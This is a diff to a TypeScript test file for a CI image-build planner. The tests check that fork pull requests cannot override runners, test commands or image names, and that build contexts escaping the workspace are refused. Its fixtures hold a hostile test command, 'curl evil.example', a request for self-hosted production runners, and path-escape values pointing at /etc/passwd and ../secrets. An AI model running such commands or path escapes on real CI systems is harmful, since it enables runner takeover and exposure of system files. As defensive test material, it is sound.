@@ -1,5 +1,5 @@
 import { execFile } from 'node:child_process';
-import { mkdir, rm, writeFile } from 'node:fs/promises';
+import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
 import { promisify } from 'node:util';
 import { RegistryClient } from '../../src/io/registry/client.ts';
@@ -233,6 +233,96 @@ describe('the plan of several images', () => {
       mail: expect.stringMatching(/^build: `services\/mail\/letter` has changed/),
     });
     expect(step.outputs).toMatchObject({ push: 'false', unchanged: '[]' });
+  });
+
+  describe('an event that may be about the code of others', () => {
+    const list = (shop: string) =>
+      `images:\n  base: base\n  mail:\n    context: .\n    file: services/mail/Dockerfile\n  shop:\n    context: services/shop\n${shop}`;
+    const own = list("    runners: '* = own-runner'\n    test: ./own-test\n");
+    const foreign = list(
+      '    runners: \'* = ["self-hosted","production"]\'\n    test: curl evil.example\n    name: ghcr.io/acme/other\n',
+    );
+    const pull = (base: string) => ({
+      number: 7,
+      pull_request: {
+        number: 7,
+        base: { ref: 'main', sha: base, repo: { full_name: 'Acme/App' } },
+        head: { ref: 'x', repo: { full_name: 'Wile/App' } },
+      },
+    });
+    const inputs = { 'changed-since': 'all' };
+    let [before, sha] = ['', ''];
+    beforeAll(async () => {
+      before = await history.commit({ 'images.yml': own });
+      sha = await history.commit({ 'images.yml': foreign });
+    });
+    afterAll(() => history.commit({ 'images.yml': filesOf(prefix)['images.yml'] }));
+    const shown = ({ plans }: Awaited<ReturnType<typeof history.plan>>) => {
+      const { images, build, matrix } = plans.shop as Record<string, Record<string, unknown>>;
+      const [leg] = (matrix?.include ?? []) as { 'runs-on': string }[];
+      return { images, test: build?.test, runner: leg?.['runs-on'] };
+    };
+
+    it.each(['pull_request', 'pull_request_target'])(
+      '%s: runners, tests and names are those of the base commit, and the log says so',
+      async (name) => {
+        const ref = name === 'pull_request' ? 'refs/pull/7/merge' : 'refs/heads/main';
+        const planned = await history.plan(sha, inputs, { name, ref, payload: pull(before) });
+        expect(planned.step.exitCode).toBe(0);
+        expect(shown(planned)).toEqual({
+          images: [`${prefix}/shop`],
+          test: './own-test',
+          runner: '"own-runner"',
+        });
+        expect(planned.step.log).toContain('`shop` (`runners`, `test`, `name`)');
+      },
+    );
+
+    it('a comment on a pull request: where the base commit is not here, they are left to the workflow', async () => {
+      const event = { name: 'issue_comment', ref: 'refs/heads/main', sha: 'f'.repeat(40) };
+      const payload = { issue: { number: 7, pull_request: {} } };
+      const planned = await history.plan(sha, inputs, { ...event, payload });
+      expect(shown(planned)).toEqual({
+        images: [`${prefix}/shop`],
+        test: undefined,
+        runner: '"ubuntu-24.04"',
+      });
+      expect(planned.step.log).toContain('`fetch-depth: 0`');
+    });
+
+    it('the workflow may trust them, and a push is trusted', async () => {
+      const trusted = { ...inputs, 'trust-images-file': 'true' };
+      const event = { name: 'pull_request', ref: 'refs/pull/7/merge', payload: pull(before) };
+      for (const planned of [await history.plan(sha, trusted, event), await history.plan(sha, inputs)])
+        expect(shown(planned)).toMatchObject({ images: ['ghcr.io/acme/other'], test: 'curl evil.example' });
+    });
+  });
+
+  it('refuses whatever stands outside of the workspace, behind a link too', async () => {
+    await symlink('/etc', join(history.folder, 'etc'));
+    const list = `images:
+  up: {context: ../.., file: base/Dockerfile}
+  root: {context: /etc, file: base/Dockerfile}
+  link: {context: etc, file: base/Dockerfile}
+  file: {context: base, file: etc/passwd}
+  named: {context: base, build-contexts: {x: '../secrets', y: 'oci-layout:///var/lib/images:1'}}
+`;
+    const sha = await history.commit({ 'outside.yml': list });
+    await rm(join(history.folder, 'etc'));
+    await symlink('/etc', join(history.folder, 'etc'));
+    const { step } = await history.plan(sha, { 'images-file': 'outside.yml' });
+    await rm(join(history.folder, 'etc'));
+    expect(step.exitCode).toBe(1);
+    for (const text of [
+      '`up`: its `context` is `../..`, which is outside of the workspace',
+      '`root`: its `context` is `/etc`',
+      '`link`: its `context` is `etc`',
+      '`file`: its `file` is `etc/passwd`',
+      '`named`: its `build-contexts` is `../secrets`',
+      '`named`: its `build-contexts` is `/var/lib/images`',
+    ])
+      expect(step.log).toContain(text);
+    await history.commit({});
   });
 
   it('says so where the history is not there, and builds all that it cannot compare', async () => {
